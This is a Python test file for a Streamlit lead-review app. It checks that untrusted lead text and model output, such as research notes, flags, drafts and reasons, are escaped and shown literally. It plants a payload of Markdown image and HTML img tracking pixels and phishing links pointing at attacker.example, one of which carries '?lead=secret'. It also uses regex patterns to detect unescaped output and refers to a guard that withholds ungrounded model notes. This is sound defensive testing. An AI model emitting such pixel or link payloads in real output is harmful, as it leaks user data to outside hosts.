"""Untrusted text is shown as text: lead text and model output (research notes in the brief, flags, evidence, the
draft, reasons) never reach the review app as Markdown or HTML. The real-browser half, that opening such an item
makes no request to another host, is in test_browser.py."""

from __future__ import annotations

import json
import re

from streamlit.testing.v1 import AppTest

from core.db import session_scope
from core.models import ReviewItem
from review.ui.common import md
from tests.review.test_app import _queue_a_lead, _signed_in

IMAGE = "![x](http://attacker.example/summary-pixel.png?lead=secret)"
HTML = '<img src="http://attacker.example/html-pixel.png">'
PAYLOAD = f"{IMAGE} {HTML} [click](http://attacker.example/phish) <http://attacker.example/a> :red[alarm] $x$"

# Markdown that would render an image, a link, raw HTML or a directive: each needs an unescaped opener.
UNESCAPED = [
    re.compile(r"(?<!\\)!(?<!\\)\[x(?<!\\)\]\("),  # ![x](
    re.compile(r"(?<!\\)<img"),
    re.compile(r"(?<!\\)\]\(http"),
    re.compile(r"https?://attacker|www\.attacker"),  # a bare URL is made a link unless it is broken up
    re.compile(r"(?<!\\)<http"),
    re.compile(r":red(?<!\\)\["),
]


def plant_untrusted(settings, item_id: int) -> None:
    """Put the payload where a lead or a model could: the brief's summary, flags and evidence, the draft's
    subject and body, the grounding flags and a rejection reason."""
    with session_scope(settings) as session:
        item = session.get(ReviewItem, item_id)
        brief = dict(item.brief)
        brief["summary"] = f"{brief.get('summary', '')} Research notes: {PAYLOAD}"
        brief["flags"] = [*brief.get("flags", []), PAYLOAD]
        brief["fallback"] = None
        brief["criteria"] = [{**c, "evidence": PAYLOAD} for c in brief.get("criteria", [])]
        item.brief = brief
        item.draft = {
            **item.draft,
            "subject": f"Re: {PAYLOAD}",
            "body": f"{item.draft.get('body', '')}\n\n{PAYLOAD}",
            "redraft_reason": PAYLOAD,
        }
        item.guard_flags = [f"ungrounded text {PAYLOAD}"]


def _markdown_strings(at: AppTest) -> list[str]:
    """Every string the app handed to Streamlit as Markdown: bodies of markdown, captions, alerts and headings,
    and the labels and values of metrics and widgets (labels render Markdown too)."""
    out = []
    for kind in ("markdown", "caption", "info", "warning", "error", "success", "title", "header", "subheader"):
        out += [element.value for element in getattr(at, kind)]
    out += [m.label for m in at.metric] + [str(m.value) for m in at.metric]
    for kind in ("button", "checkbox", "text_input", "text_area", "selectbox", "radio", "multiselect", "expander"):
        out += [getattr(element, "label", "") or "" for element in getattr(at, kind)]
    return out


def test_md_escapes_markdown_and_html_and_keeps_plain_text_readable():
    assert md("Jane Doe, VP Sales at Acme Software (82)") == "Jane Doe, VP Sales at Acme Software (82)"
    assert md("pay_url +1 415 555 0199 'lead.fax': 10 % off") == "pay_url +1 415 555 0199 'lead.fax': 10 % off"
    escaped = md(PAYLOAD + "\n# heading\n1. item\nwww.attacker.example")
    assert not any(pattern.search(escaped) for pattern in UNESCAPED)
    assert "\\# heading" in escaped and "1\\. item" in escaped and "www\u2060.attacker" in escaped
    assert "\\$x\\$" in escaped and "  \n" in escaped  # no math; line breaks kept


def test_an_item_with_markdown_and_html_in_lead_text_and_research_notes_shows_them_literally(
    settings, live_server, http, worker, llm
):
    llm.add(
        {"content": "ok"},
        {
            "content": json.dumps(
                {"summary": f"Asked about pricing. {PAYLOAD}", "opening_line": "", "pain_points": []}
                | {"injection_suspected": False}
            )
        },
    )
    _queue_a_lead(settings, http, worker, message=f"Please read this: {PAYLOAD}")
    with session_scope(settings) as session:
        [item] = session.query(ReviewItem).all()
        item_id = item.id
        # The (scripted) model's research notes carry links no record holds: the grounding guard withholds them
        # (issue 18); plant_untrusted then puts the payload where notes that passed would sit.
        assert "llm_output_withheld:research_notes" in item.brief["flags"]
        assert "attacker.example" not in item.brief["summary"]
    plant_untrusted(settings, item_id)

    at = _signed_in(live_server, settings, "closer")
    at.radio(key="view").set_value("Everything")
    at.run()
    assert not at.exception, at.exception
    assert at.selectbox(key="selected").value == item_id
    summary = next(t.value for t in at.text if f"Research notes: {PAYLOAD}" in t.value)
    assert IMAGE in summary and HTML in summary  # plain text (st.text), literally as written
    # the lead's own words and the draft's body: code blocks, literally
    assert any(c.value == f"Please read this: {PAYLOAD}" for c in at.code)
    assert any(PAYLOAD in c.value and c.value != f"Please read this: {PAYLOAD}" for c in at.code)
    at.button(key=f"edit_{item_id}").click()
    at.run()
    assert at.text_input(key=f"subject_{item_id}").value == f"Re: {PAYLOAD}"  # plain inputs, literally
    assert PAYLOAD in at.text_area(key=f"body_{item_id}").value

    strings = _markdown_strings(at)
    leaks = [s for s in strings if any(pattern.search(s) for pattern in UNESCAPED)]
    assert leaks == []
    # ...and the escaped payload is there where a Markdown element carries it (flags, the grounding guard, reason)
    assert sum(md(PAYLOAD) in s for s in strings) >= 3
